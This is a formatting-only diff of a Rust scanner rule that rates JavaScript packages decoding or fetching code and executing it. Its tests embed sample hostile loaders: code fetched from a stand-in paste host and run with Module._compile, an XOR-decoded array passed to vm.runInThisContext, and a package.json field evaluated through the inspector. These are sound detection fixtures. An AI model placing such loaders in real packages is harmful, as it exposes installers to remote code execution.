@@ -48,8 +48,14 @@ fn check(pkg: &Package, out: &mut Emitter) {
         let (sev, how) = match run.source {
             Source::Remote => (Severity::Critical, "received over the network"),
             Source::PackageData => (Severity::Critical, "hidden in a data file of the package"),
-            Source::Host => (Severity::Critical, "decoded with a key from the host's identity"),
-            _ => (Severity::High, "decoded from constant data by the package itself"),
+            Source::Host => (
+                Severity::Critical,
+                "decoded with a key from the host's identity",
+            ),
+            _ => (
+                Severity::High,
+                "decoded from constant data by the package itself",
+            ),
         };
         let sev = if bundle && sev == Severity::Critical {
             Severity::High
@@ -77,7 +83,11 @@ mod tests {
     fn xor_decoder_over_a_constant_array_into_vm_is_high() {
         let src = "const vm = require('vm'); const K = [3,9,27,81,243,17,51,153,205]; const D = [107,108,109,110,111,112,113,114,115,116];\nfunction un(a, k) { return a.map((c, i) => String.fromCharCode(c ^ k[i % k.length])).join(''); }\nvm.runInThisContext(un(D, K));";
         let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::High), "{hits:?}");
+        assert_eq!(
+            hits.first().map(|h| h.severity),
+            Some(Severity::High),
+            "{hits:?}"
+        );
     }
 
     #[test]
@@ -90,14 +100,22 @@ mod tests {
     fn response_chunks_into_module_compile_is_critical() {
         let src = "const https = require('https'); const Module = require('module');\nhttps.get('https://paste.example/raw/x', (res) => { let s = ''; res.on('data', (c) => { s += c; }); res.on('end', () => { const m = new Module('x'); m._compile(s, 'x.js'); }); });";
         let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Critical), "{hits:?}");
+        assert_eq!(
+            hits.first().map(|h| h.severity),
+            Some(Severity::Critical),
+            "{hits:?}"
+        );
     }
 
     #[test]
     fn inspector_runtime_evaluate_of_a_json_field_is_critical() {
         let src = "const inspector = require('inspector'); const cfg = require('./package.json');\nconst s = new inspector.Session(); s.connect(); s.post('Runtime.evaluate', { expression: cfg.probe });";
         let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Critical), "{hits:?}");
+        assert_eq!(
+            hits.first().map(|h| h.severity),
+            Some(Severity::Critical),
+            "{hits:?}"
+        );
     }
 
     #[test]
